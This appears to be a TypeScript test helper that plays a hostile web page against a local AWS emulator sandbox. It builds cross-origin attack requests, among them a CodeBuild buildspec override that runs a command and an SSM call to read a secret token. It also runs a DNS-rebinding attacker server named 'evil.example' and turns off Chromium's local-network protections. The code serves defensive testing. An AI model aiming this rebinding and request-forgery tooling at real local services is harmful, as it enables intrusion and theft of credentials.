import { readFileSync } from "node:fs";
import { createServer, type IncomingMessage, request as httpRequest, type Server, type ServerResponse } from "node:http";
import { type AddressInfo, connect } from "node:net";
import { join } from "node:path";
import type { Duplex } from "node:stream";

const PAGE = join(__dirname, "..", "helpers", "fixtures", "attack-page.html");

/** A request that a hostile page makes. */
export interface Attempt {
  readonly name: string;
  readonly method: "GET" | "POST";
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
  /** A "simple" request, which a browser sends without asking first; the page cannot read the answer. */
  readonly blind?: boolean;
}

/** What came of an attempt, as the page or the client saw it. */
export interface Outcome {
  readonly name: string;
  /** `STATUS TEXT`, `blind` or `failed`. */
  readonly result: string;
}

const MADE_UP = (service: string, date = new Date().toISOString().replace(/[-:]|\.\d+/g, "")) =>
  `AWS4-HMAC-SHA256 Credential=111122223333/${date.slice(0, 8)}/eu-central-1/${service}/aws4_request, SignedHeaders=host;x-amz-date;x-amz-target, Signature=${"0".repeat(64)}`;

function call(name: string, service: string, target: string, input: object): Attempt {
  const date = new Date().toISOString().replace(/[-:]|\.\d+/g, "");
  const headers = {
    authorization: MADE_UP(service, date),
    "x-amz-date": date,
    "content-type": "application/x-amz-json-1.1",
    "x-amz-target": target,
  };
  return { name, method: "POST", path: "/", headers, body: JSON.stringify(input) };
}

/** What a page would try that knows the sandbox, but not the secret key of this run. @param mark a file that a build would make */
export function attempts(project: string, mark: string): readonly Attempt[] {
  const buildspec = `{ version: 0.2, phases: { build: { commands: ["touch ${mark}"] } } }`;
  const start = { projectName: project, buildspecOverride: buildspec };
  const text = { "content-type": "text/plain" };
  const form = { "content-type": "application/x-www-form-urlencoded" };
  const stranger = `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=111122223333%2F20261129%2Feu-central-1%2Fs3%2Faws4_request&X-Amz-Date=20261129T000000Z&X-Amz-Expires=604800&X-Amz-SignedHeaders=host&X-Amz-Signature=${"0".repeat(64)}`;
  return [
    call("a build with a made-up signature", "codebuild", "CodeBuild_20161006.StartBuild", start),
    call("the token in clear", "ssm", "AmazonSSM.GetParameter", { Name: "/scan/token", WithDecryption: true }),
    { name: "a build as plain text", method: "POST", path: "/", headers: text, body: JSON.stringify(start), blind: true },
    {
      name: "a call as a form",
      method: "POST",
      path: "/?Action=GetCallerIdentity&Version=2011-06-15",
      headers: form,
      body: "",
      blind: true,
    },
    { name: "a made-up presigned address", method: "GET", path: `/artifacts/key?${stranger}` },
    {
      name: "a schedule's start",
      method: "POST",
      path: "/_sandbox/schedules/111122223333/eu-central-1/default/nightly/start",
      blind: true,
    },
    {
      name: "a fault",
      method: "POST",
      path: "/_sandbox/faults",
      headers: text,
      body: '{"code":"ThrottlingException","times":99}',
      blind: true,
    },
    { name: "the faults' end", method: "POST", path: "/_sandbox/faults", body: "{}" },
    { name: "moto's state", method: "GET", path: "/moto-api/data.json" },
    { name: "the package index", method: "GET", path: "/d/demo-domain-111122223333/pypi/team/simple/requests/" },
    { name: "git", method: "GET", path: "/v1/repos/app/info/refs?service=git-upload-pack" },
    { name: "a bucket's list", method: "GET", path: "/artifacts" },
  ];
}

/** Whether a browser asks with OPTIONS before it sends this to another origin (fetch.spec.whatwg.org, "CORS-safelisted request-header"). */
export function isPreflighted({ headers = {} }: Attempt): boolean {
  return Object.entries(headers).some(([name, value]) => name !== "content-type" || value.includes("json"));
}

/** A request over the wire with exactly these headers. */
export function send(
  endpoint: string,
  { method, path, headers = {}, body = "" }: Omit<Attempt, "name" | "method"> & { readonly method: string },
): Promise<{ readonly status: number; readonly headers: IncomingMessage["headers"]; readonly text: string }> {
  const { hostname, port } = new URL(endpoint);
  return new Promise((resolve, reject) => {
    const sent = httpRequest({ hostname, port, method, path, headers, setHost: headers.host === undefined }, (reply) => {
      let text = "";
      reply.setEncoding("utf8").on("data", (chunk: string) => (text += chunk));
      reply.once("end", () => resolve({ status: reply.statusCode ?? 0, headers: reply.headers, text }));
    });
    sent.once("error", reject).end(body);
  });
}

/** The attacker's machine: `evil.example` is there at first, and on the sandbox's port it is loopback later. */
export interface Attacker {
  readonly flags: readonly string[];
  /** Where the browser is led. */
  readonly url: string;
  /** Both reports: of the page that calls loopback by name, and of the one whose own name has been bound to loopback. */
  readonly reports: Promise<readonly [readonly Outcome[], readonly Outcome[]]>;
  /** Requests that a server with open doors got from the page: that the browser really sends them. */
  readonly control: readonly string[];
  stop(): void;
}

const NAME = "evil.example";

/**
 * @param by who resolves the attacker's name: a proxy of the browser, or the browser itself, which then speaks to loopback without anybody
 * between
 */
export async function startAttacker(endpoint: string, all: readonly Attempt[], by: "proxy" | "resolver"): Promise<Attacker> {
  const { port } = new URL(endpoint);
  const rebound = `http://${NAME}:${port}`;
  const control: string[] = [];
  const open = await startOpenServer(control);
  const [first, second] = [later<Outcome[]>(), later<Outcome[]>()];
  const page = (targets: readonly string[], report: string, next: string) => {
    const plan = JSON.stringify({ attempts: all, targets, report, next }).replaceAll("<", "\\u003c");
    return readFileSync(PAGE, "utf8").replace("PLAN", () => plan);
  };
  const byName = [endpoint, endpoint.replace("127.0.0.1", "localhost"), rebound, open.url];
  const pages = new Map([
    [`http://${NAME}/`, page(byName, `http://${NAME}/report`, `${rebound}/page`)],
    [`${rebound}/page`, page([rebound], `${rebound}/report`, "")],
  ]);
  const machine = createServer((request, response) => {
    const { url: asked = "", headers: sent } = request;
    // A proxy is asked for whole addresses.
    const url = asked.startsWith("/") ? `http://${sent.host ?? ""}${asked}` : asked;
    const known = pages.get(url);
    if (known !== undefined) return void response.writeHead(200, { "content-type": "text/html" }).end(known);
    if (url === `http://${NAME}/report`) return void collect(request, response, first.resolve);
    if (url === `${rebound}/report`) return void collect(request, response, second.resolve);
    if (!url.startsWith(rebound)) return void response.writeHead(404).end();
    // The name is loopback from now on: the request goes there as the browser sent it.
    const onward = httpRequest(endpoint, { method: request.method, path: url.slice(rebound.length), headers: sent }, (reply) => {
      response.writeHead(reply.statusCode ?? 500, reply.headers);
      reply.pipe(response);
    });
    onward.on("error", () => response.destroy());
    request.pipe(onward);
  });
  const join = (socket: Duplex, begin: (onward: Duplex) => void) => {
    const onward = connect(Number(port), "127.0.0.1", () => begin(onward));
    for (const each of [socket, onward]) each.on("error", () => onward.destroy());
    socket.pipe(onward).pipe(socket);
  };
  // A browser asks a proxy for a tunnel if it opens a WebSocket.
  machine.on("connect", ({ url }: IncomingMessage, socket: Duplex) => {
    if (url !== `${NAME}:${port}`) return void socket.end("HTTP/1.1 404 Not Found\r\n\r\n");
    return join(socket, () => socket.write("HTTP/1.1 200 OK\r\n\r\n"));
  });
  machine.on("upgrade", ({ method, url, rawHeaders }: IncomingMessage, socket: Duplex) => {
    const lines = rawHeaders.flatMap((text, index) => (index % 2 === 0 ? [`${text}: ${rawHeaders[index + 1] ?? ""}`] : []));
    join(socket, (onward) => onward.write([`${method} ${url} HTTP/1.1`, ...lines, "", ""].join("\r\n")));
  });
  const place = await listen(machine);
  const rule = (of: string) => `MAP ${NAME}:${of} ${new URL(place).host}`;
  const way = by === "proxy" ? `--proxy-server=${place}` : `--host-resolver-rules=${rule("80")}, ${rule(port)}`;
  return {
    // Chromium's own barrier between pages and loopback is taken away: other browsers have none.
    flags: [way, "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"],
    url: `http://${NAME}/`,
    reports: Promise.all([first.promise, second.promise]),
    control,
    stop() {
      for (const server of [open.server, machine]) {
        server.close();
        server.closeAllConnections();
      }
    },
  };
}

/** Lets every page in, as moto does. @param seen gets each request */
async function startOpenServer(seen: string[]): Promise<{ readonly url: string; readonly server: Server }> {
  const headers = {
    "access-control-allow-origin": "*",
    "access-control-allow-headers": "authorization, content-type, x-amz-date, x-amz-target",
  };
  const server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    request.resume();
    response.writeHead(200, headers).end("let in");
  });
  return { url: await listen(server), server };
}

function later<T>(): { readonly promise: Promise<T>; readonly resolve: (value: T) => void } {
  let resolve: (value: T) => void = () => undefined;
  const promise = new Promise<T>((settle) => (resolve = settle));
  return { promise, resolve };
}

function collect(request: IncomingMessage, response: ServerResponse, resolve: (outcomes: Outcome[]) => void): void {
  let text = "";
  request.setEncoding("utf8").on("data", (chunk: string) => (text += chunk));
  request.once("end", () => {
    response.end();
    resolve(JSON.parse(text) as Outcome[]);
  });
}

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
